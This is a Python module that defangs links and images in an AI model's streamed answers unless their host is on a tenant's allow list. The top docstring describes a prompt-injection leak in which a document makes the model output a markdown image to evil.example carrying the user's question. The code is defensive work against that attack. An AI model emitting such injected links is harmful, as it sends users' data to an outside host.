"""
The only way an answer's text leaves: no link or image in it leads to a host that its tenant did not allow.

An answer may say what a document told the model to say: ``![](https://evil.example/?q=what-the-user-asked)``. A chat
front end that renders it would fetch that address at once, or when somebody clicks. So an address is kept where it is
plainly http(s) and its host is allowed; otherwise a sign without which it is no link is changed, and the text stays
readable: ``https[:]//evil[.]example/``. What is not understood counts as not allowed.
"""

from __future__ import annotations

import re
from collections.abc import Collection
from html import unescape

MAX_ADDRESS = 2_048
"""How much of an address is waited for; a longer one is not kept."""
LOOK_BACK = 256

_ADDRESS = r"[\w\-./?=%+,:;~!$*'@&#]*"
_HOST = re.compile(r"(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)*[a-z0-9](?:[a-z0-9-]*[a-z0-9])?", re.ASCII | re.IGNORECASE)
_DESTINATION = re.compile(rf"https?://([^\s/?#:@]+)(?::\d{{1,5}})?(?:[/?#]{_ADDRESS})?", re.ASCII | re.IGNORECASE)
_NO_ADDRESS = re.compile(r"[\w-]*|#[\w-]*")
_CLOSING = ")]>}\"'`*_~,.;:!|"
"""What ends a sentence or closes a bracket; behind an address it is no part of it, where nothing else follows."""
_NAMES_ONLY = frozenset({"s3"})
"""Schemes that neither browsers open nor renderers make links of."""
_HARMLESS = frozenset("<>&\"'")

_RISK = re.compile(
    r"(?P<tag><)(?=[A-Za-z/!?])"
    r"|(?P<entity>&(?:\#[0-9]{1,8}|\#[xX][0-9A-Fa-f]{1,8}|[A-Za-z][A-Za-z0-9]{1,31});)"
    rf"|\](?P<opens>[(:])[ \t]*(?P<destination>[^\s()<>\[\]]{{0,{MAX_ADDRESS}}})(?P<behind>[\s)]?)"
    rf"|(?P<slashes>(?P<colon>\\?:)?(?:\\?/){{2,8}})(?!\\?/)(?P<authority>[^\s/?#]{{1,{MAX_ADDRESS}}})"
    rf"|(?<![A-Za-z0-9])www(?P<dot>\.)(?P<rest>\w[^\s/?#]{{0,{MAX_ADDRESS}}})"
    r"|(?<=[A-Za-z0-9])\.(?P<top>[A-Za-z]{2,24})(?=[/?]|:[0-9])",
    re.IGNORECASE,
)
_BEGINNING = re.compile(
    r"(?:<|&[#0-9A-Za-z]{0,33}|\](?:[(:][ \t]*)?|\\?:?(?:\\?/){0,8}\\?|(?<![A-Za-z0-9])w{1,3}\.?|\.[A-Za-z]{0,24}:?)\Z",
    re.IGNORECASE,
)
"""What may go on as something that `_RISK` finds; it always finds an end, if only an empty one."""
_HOST_SIGNS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.-_"
_HOST_MAKERS = frozenset(".\u3002\uff0e\uff61:@%&\\[")
"""What a host has that a word has not."""
_WITHIN = frozenset("/=&?#%@_:")
"""What stands before a name that is no host: it is part of a path."""
_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{0,30}\Z")
_NAME = re.compile(r"[A-Za-z0-9.-]{1,253}\Z")
_FENCE = re.compile(r"(`{3,64}|~{3,64})[^`~\n]{0,256}\n")
_PERHAPS_FENCE = re.compile(r"(?:`{1,64}|~{1,64}|(?:`{3,64}|~{3,64})[^`~\n]{0,256})\Z")


class LinkGuard:
    """
    Takes one answer's text piece by piece. *allowed* are names of hosts; ``*.example.com`` allows all below that one.

    Only what may become an address is held back, and what comes out does not depend on where the pieces were cut.
    Fenced code is left as it is, since nothing in it is a link. Code within a line is treated like text: renderers do
    not agree on where it ends.
    """

    def __init__(self, allowed: Collection[str]) -> None:
        self._allowed = frozenset(name.lower() for name in allowed)
        self._said = "\n"  # the end of what was taken, as it came in
        self._held = ""
        self._fence: str | None = None
        self._returned = False  # whether the last sign was a carriage return

    def feed(self, piece: str) -> str:
        """Give what can be said now that *piece* is there."""
        self._held += self._plain_lines(piece)
        return "".join(iter(lambda: self._line(last=False), ""))

    def end(self) -> str:
        """Give the rest."""
        return "".join(iter(lambda: self._line(last=True), ""))

    def _plain_lines(self, piece: str) -> str:
        """Give *piece* with line feeds only: renderers end a line, and so a fence, at a carriage return too."""
        if not piece:
            return ""
        if self._returned:
            piece = piece.removeprefix("\n")
        self._returned = piece.endswith("\r")
        return piece.replace("\r\n", "\n").replace("\r", "\n")

    def _line(self, *, last: bool) -> str:
        """Take the rest of a line, or what is certain of it; nothing where more is needed."""
        size = self._held.find("\n") + 1
        whole = last or size > 0
        size = size or len(self._held)
        if self._fence is not None:
            return self._code(size) if whole else ""
        if self._said.endswith("\n"):
            if fence := _FENCE.match(self._held):
                self._fence = fence[1]
                return self._take(fence.end())
            if not whole and _PERHAPS_FENCE.match(self._held):
                return ""
        return self._text(size, whole=whole)

    def _code(self, size: int) -> str:
        fence, line = self._fence or "", self._held[:size]
        if re.fullmatch(rf" {{0,3}}{fence[0]}{{{len(fence)},}}[ \t]*\n?", line):
            self._fence = None
        return self._take(size)

    def _text(self, size: int, *, whole: bool) -> str:
        text = self._said + self._held[:size]
        start = place = len(self._said)
        said, end = [], len(text)
        while risk := _RISK.search(text, place):
            if not whole and risk.end() == len(text):
                end = risk.start()
                break
            kept, after = self._defused(risk)
            said += [text[place : risk.start()], kept]
            place = after
        else:
            if not whole and (more := _BEGINNING.search(text, place)):
                end = more.start()
        self._take(end - start)
        return "".join([*said, text[place:end]])

    def _take(self, size: int) -> str:
        taken, self._held = self._held[:size], self._held[size:]
        self._said = (self._said + taken)[-LOOK_BACK:]
        return taken

    def _defused(self, risk: re.Match[str]) -> tuple[str, int]:
        """Give what is said instead of *risk*, and where to go on reading."""
        if risk["tag"]:
            return "\u2039", risk.end()
        if risk["entity"]:
            return ("&amp;" if _hides(risk["entity"]) else "&"), risk.start() + 1
        if risk["opens"]:
            return self._opened(risk)
        if risk["slashes"]:
            return self._absolute(risk)
        if risk["dot"]:
            if self._is_allowed(f"www.{risk['rest']}", risk.string[risk.end() : risk.end() + 1]):
                return risk[0], risk.end()
            return "www[.]", risk.end("dot")
        name = _NAME.search(risk.string, max(risk.start() - LOOK_BACK, 0), risk.start())
        if (
            name is None
            or risk.string[name.start() - 1] in _WITHIN
            or self._is_allowed(f"{name[0]}.{risk['top']}", "/")
        ):
            return risk[0], risk.end()
        return f"[.]{risk['top']}", risk.end()

    def _opened(self, risk: re.Match[str]) -> tuple[str, int]:
        """Keep the destination of a link, an image or a definition, or part it from what it belongs to."""
        destination, opened = risk["destination"], f"]{risk['opens']}"
        complete = risk["behind"] or risk.end() == len(risk.string)
        found = _DESTINATION.fullmatch(destination)
        if complete and found is not None and self._is_allowed(found[1], "/"):
            return risk.string[risk.start() : risk.end("destination")], risk.end("destination")
        if complete and destination and _NO_ADDRESS.fullmatch(destination):
            return opened, risk.start() + 2
        return f"] {risk['opens']}", risk.start() + 2

    def _absolute(self, risk: re.Match[str]) -> tuple[str, int]:
        """Keep an address that stands by itself, or make it one that nothing takes for an address."""
        authority = risk["authority"]
        host = authority[: len(authority) - len(authority.lstrip(_HOST_SIGNS))]
        after = risk.start("authority") + len(host)
        if risk["colon"] is None:
            if _HOST_MAKERS.isdisjoint(authority):
                return risk["slashes"], risk.end("slashes")  # a remark, or a doubled slash in a path
            return f"/ /{_defanged(host)}", after
        scheme = _SCHEME.search(risk.string, max(risk.start() - LOOK_BACK, 0), risk.start())
        name = scheme[0].lower() if scheme else ""
        if name in _NAMES_ONLY:
            return risk["slashes"], risk.end("slashes")
        behind = risk.string[risk.end("authority") : risk.end("authority") + 1]
        if risk["slashes"] == "://" and name in {"http", "https"} and self._is_allowed(authority, behind):
            return risk[0], risk.end()
        slashes = "/ /" if authority[len(host) :].strip(_CLOSING) else "//"
        return f"[:]{slashes}{_defanged(host)}", after

    def _is_allowed(self, host: str, behind: str) -> bool:
        """Say whether *host* may be led to; *behind* is the character after it, empty where the text ends."""
        if not behind or behind.isspace():
            host = host.rstrip(_CLOSING)
        host = re.sub(r":\d{1,5}\Z", "", host).lower()
        if not _HOST.fullmatch(host):
            return False
        labels = host.split(".")
        return host in self._allowed or any(
            f"*.{'.'.join(labels[place:])}" in self._allowed for place in range(1, len(labels))
        )


def guarded(text: str, allowed: Collection[str]) -> str:
    """Give *text* without a link to any host that is not *allowed*; see `LinkGuard`."""
    guard = LinkGuard(allowed)
    return guard.feed(text) + guard.end()


def _hides(entity: str) -> bool:
    """Say whether *entity* stands for a sign or letter of an address."""
    meant = unescape(entity)
    return any(sign.isascii() and sign not in _HARMLESS for sign in meant)


def _defanged(name: str) -> str:
    return re.sub(r"\.(?=\w)", "[.]", name)  # a closing bracket at the end could open a destination
